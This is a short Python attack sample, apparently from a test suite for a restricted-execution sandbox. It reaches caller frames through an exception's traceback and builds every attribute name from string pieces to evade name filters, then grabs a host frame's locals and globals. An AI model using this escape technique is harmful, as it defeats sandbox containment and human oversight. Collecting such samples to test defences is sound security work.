# Attack: the takeover again, its frames reached through an exception's traceback and every name built
# from strings, so that no reaching name is written out.
def TAKE_OVER(name):
    try:
        raise LookupError
    except LookupError as error:
        frame = getattr(getattr(error, "__trace" + "back__"), "tb_" + "frame")
    while frame is not None and "commands" not in getattr(frame, "f_" + "locals"):
        frame = getattr(frame, "f_" + "back")
    if frame is not None:
        answer(getattr(frame, "f_" + "locals"), getattr(frame, "f_" + "globals"))
